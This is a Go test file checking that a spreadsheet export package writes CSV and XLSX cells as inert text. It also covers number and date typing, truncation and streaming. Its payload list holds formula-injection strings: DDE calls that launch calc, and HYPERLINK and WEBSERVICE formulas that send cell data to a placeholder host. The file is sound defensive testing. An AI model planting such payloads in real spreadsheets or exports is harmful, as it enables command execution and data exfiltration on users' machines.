package sheet_test

import (
	"archive/zip"
	"bytes"
	"encoding/csv"
	"errors"
	"fmt"
	"io"
	"math"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"github.com/xuri/excelize/v2"

	"motcua/hooks/service/sheet"
)

// payloads are texts that some spreadsheet has run, or made a number or a day of.
func payloads() []string {
	var out []string
	for _, start := range []string{"=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "\u00a0=", "\ufeff=", "\u200b=", "＝", "＋", "－", "＠", "﹦", "−", `"=`, ";=", "a;=", "a; +", "a\n=", "a\r\n@", "a\t-"} {
		out = append(out, start+"1+1", start+`cmd|' /C calc'!A0`)
	}
	return append(out, `=HYPERLINK("http://x.test?"&A1,"bấm")`, "=WEBSERVICE(\"http://x.test\")", "@SUM(1)", "0912345678", "001085012345", "1.000110", "2.000635", "01/2026",
		"1-2", "1e5", "-5", "+84 912 345 678", "12:30", "9.999.999.999", "１２３", "20/11/2026")
}

// inert is what CSV must never hold: a value that a spreadsheet takes for more than text.
func inert(t *testing.T, value string) {
	t.Helper()
	for part := range strings.SplitSeq(value, ";") {
		part = strings.TrimLeft(part, " \u00a0\ufeff\u200b\"")
		assert.False(t, part != "" && strings.ContainsAny(part[:1], "=+-@\t\r\n"), "%q would run", value)
		for _, wide := range []string{"＝", "＋", "－", "＠", "﹦", "−"} {
			assert.False(t, strings.HasPrefix(part, wide), "%q would run", value)
		}
	}
	assert.NotContains(t, value, "\n")
	assert.NotContains(t, value, "\t")
}

func TestNoTextOfACSVIsEverMoreThanText(t *testing.T) {
	require.Greater(t, len(payloads()), 60)
	var b bytes.Buffer
	tb := sheet.Table{Title: "=1", Columns: []sheet.Column{{Title: "=Đầu"}, {Title: "Hai"}}}
	for _, p := range payloads() {
		tb.Rows = append(tb.Rows, []sheet.Cell{sheet.Text("Ấn, \"Ngọc\""), sheet.Text(p)})
	}
	require.NoError(t, sheet.WriteCSV(&b, tb))
	require.True(t, bytes.HasPrefix(b.Bytes(), []byte("\xef\xbb\xbf")))
	assert.Equal(t, strings.Count(b.String(), "\n"), strings.Count(b.String(), "\r\n"))
	rows, err := csv.NewReader(bytes.NewReader(b.Bytes()[3:])).ReadAll()
	require.NoError(t, err)
	require.Len(t, rows, len(tb.Rows)+1)
	assert.Equal(t, []string{"'=Đầu", "Hai"}, rows[0])
	for _, row := range rows[1:] {
		assert.Equal(t, `Ấn, "Ngọc"`, row[0])
		inert(t, row[1])
	}
}

func TestCSVWritesValuesPlainly(t *testing.T) {
	var b bytes.Buffer
	require.NoError(t, sheet.WriteCSV(&b, sheet.Table{Columns: make([]sheet.Column, 8), Rows: [][]sheet.Cell{{
		sheet.Text("0912345678"), sheet.Int(-15000), sheet.Decimal(0.875), sheet.Day("2026-11-20"), sheet.Moment(time.Date(2026, 11, 20, 9, 30, 0, 0, time.UTC)),
		sheet.Decimal(math.NaN()), sheet.Text("H29.132-261120-0001")}}}))
	assert.Equal(t, "\ufeff,,,,,,,\r\n\"'0912345678\",-15000,0.875,2026-11-20,2026-11-20 16:30,,\"H29.132-261120-0001\",\r\n", b.String())
	assert.Error(t, sheet.WriteCSV(broken{}, sheet.Table{}))
}

func TestNoTextOfAWorkbookIsEverMoreThanText(t *testing.T) {
	tb := sheet.Table{Title: "=1+1", Notes: []string{"@SUM(1)"}, Columns: []sheet.Column{{Title: "+1", Width: 40}}}
	for _, p := range payloads() {
		tb.Rows = append(tb.Rows, sheet.Texts(p))
	}
	tb.Rows = append(tb.Rows, sheet.Texts("a\x00b\x1f\ufffe", "thừa một ô"))
	f, raw := written(t, tb)
	assert.NotContains(t, raw, "<f>")
	assert.NotContains(t, raw, "<hyperlink")
	for i, p := range append([]string{"=1+1", "@SUM(1)", "+1"}, payloads()...) {
		cell := fmt.Sprintf("A%d", i+1)
		formula, err := f.GetCellFormula("Bảng", cell)
		require.NoError(t, err)
		assert.Empty(t, formula, cell)
		kind, err := f.GetCellType("Bảng", cell)
		require.NoError(t, err)
		assert.Contains(t, []excelize.CellType{excelize.CellTypeInlineString, excelize.CellTypeSharedString}, kind, "%s %q", cell, p)
		got, err := f.GetCellValue("Bảng", cell)
		require.NoError(t, err)
		assert.Equal(t, strings.NewReplacer("\r\n", "\n", "\r", "").Replace(p), got, cell)
	}
	last, err := f.GetCellValue("Bảng", fmt.Sprintf("A%d", len(tb.Rows)+3))
	require.NoError(t, err)
	assert.Equal(t, "ab", last)
}

func TestAWorkbookTypesNumbersAndDays(t *testing.T) {
	f, _ := written(t, sheet.Table{Columns: make([]sheet.Column, 6), Rows: [][]sheet.Cell{{
		sheet.Int(1250000), sheet.Decimal(98.5), sheet.Day("2026-11-20"), sheet.Moment(time.Date(2026, 11, 20, 9, 30, 0, 0, time.UTC)), sheet.Day("khoảng 1957"), {}}}})
	for i, want := range []string{"1,250,000", "98.50", "20/11/2026", "16:30 20/11/2026", "khoảng 1957", ""} {
		cell, err := excelize.CoordinatesToCellName(i+1, 2)
		require.NoError(t, err)
		got, err := f.GetCellValue("Bảng", cell)
		require.NoError(t, err)
		assert.Equal(t, want, got, cell)
	}
}

func TestTooLongATextIsCutWithAMark(t *testing.T) {
	f, _ := written(t, sheet.Table{Columns: []sheet.Column{{Title: "x"}}, Rows: [][]sheet.Cell{sheet.Texts(strings.Repeat("Ấ", 40000))}})
	got, err := f.GetCellValue("Bảng", "A2")
	require.NoError(t, err)
	assert.Equal(t, strings.Repeat("Ấ", 32766)+"…", got)
}

func TestAHundredThousandRowsAreStreamed(t *testing.T) {
	tb := sheet.Table{Columns: make([]sheet.Column, 6)}
	row := append(sheet.Texts("H29.132-261120-0001", "Nguyễn Thị Ngọc Ấn", "0912345678", "=1+1"), sheet.Int(5), sheet.Day("2026-11-20"))
	for range 100_000 {
		tb.Rows = append(tb.Rows, row)
	}
	require.NoError(t, sheet.WriteXLSX(io.Discard, tb))
	require.NoError(t, sheet.WriteCSV(io.Discard, tb))
	assert.Error(t, sheet.WriteXLSX(broken{}, sheet.Table{}))
}

// written writes a workbook, opens it again and gives its sheet's XML too.
func written(t *testing.T, tb sheet.Table) (*excelize.File, string) {
	t.Helper()
	var b bytes.Buffer
	require.NoError(t, sheet.WriteXLSX(&b, tb))
	if dir := os.Getenv("SHOTS"); dir != "" {
		require.NoError(t, os.WriteFile(filepath.Join(dir, t.Name()+".xlsx"), b.Bytes(), 0o600))
	}
	z, err := zip.NewReader(bytes.NewReader(b.Bytes()), int64(b.Len()))
	require.NoError(t, err)
	part, err := z.Open("xl/worksheets/sheet1.xml")
	require.NoError(t, err)
	raw, err := io.ReadAll(part)
	require.NoError(t, err)
	f, err := excelize.OpenReader(&b)
	require.NoError(t, err)
	t.Cleanup(func() { require.NoError(t, f.Close()) })
	return f, string(raw)
}

type broken struct{}

func (broken) Write([]byte) (int, error) { return 0, errors.New("disk full") }
